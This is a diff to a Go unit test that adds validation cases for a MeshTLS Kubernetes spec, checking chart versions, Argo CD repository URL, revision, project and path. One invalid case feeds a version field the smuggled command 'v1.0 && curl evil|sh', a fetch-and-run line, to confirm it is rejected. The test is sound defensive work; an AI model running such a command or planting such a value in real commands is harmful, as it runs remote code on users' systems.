@@ -164,6 +164,30 @@ func TestValidate(t *testing.T) {
 			mutate: func(m *MeshTLS) { m.Spec.Monitoring.NotReadyFor = "1ns" },
 			errs:   field.ErrorList{field.Invalid(spec.Child("monitoring", "notReadyFor"), Duration("1ns"), "")},
 		},
+		// Free text is held to what it names: a line break or shell text
+		// would reach the output and the printed helm commands.
+		"valid with an scp-like repository URL and a prerelease chart": {mutate: func(m *MeshTLS) {
+			m.Spec.ArgoCD.RepoURL = "git@git.example.com:platform/mesh.git"
+			m.Spec.Linkerd.ChartVersions.ControlPlane = "2026.6.3-rc.1"
+		}},
+		"invalid with free text that is not what it names": {
+			mutate: func(m *MeshTLS) {
+				m.Spec.Linkerd.ChartVersions.CRDs = "x\ny"
+				m.Spec.ArgoCD.CertManager.Version = "v1.0 && curl evil|sh"
+				m.Spec.ArgoCD.RepoURL = "not a url"
+				m.Spec.ArgoCD.TargetRevision = "main\n"
+				m.Spec.ArgoCD.Project = "Bad Project!"
+				m.Spec.ArgoCD.Path = "mesh\u2028x"
+			},
+			errs: field.ErrorList{
+				field.Invalid(spec.Child("linkerd", "chartVersions", "crds"), "x\ny", ""),
+				field.Invalid(spec.Child("argocd", "certManager", "version"), "v1.0 && curl evil|sh", ""),
+				field.Invalid(spec.Child("argocd", "repoURL"), "not a url", ""),
+				field.Invalid(spec.Child("argocd", "targetRevision"), "main\n", ""),
+				field.Invalid(spec.Child("argocd", "project"), "Bad Project!", ""),
+				field.Invalid(spec.Child("argocd", "path"), "mesh\u2028x", ""),
+			},
+		},
 		"valid when argocd is disabled, without a repository": {mutate: func(m *MeshTLS) {
 			no := false
 			m.Spec.ArgoCD = ArgoCDSpec{Enabled: &no}
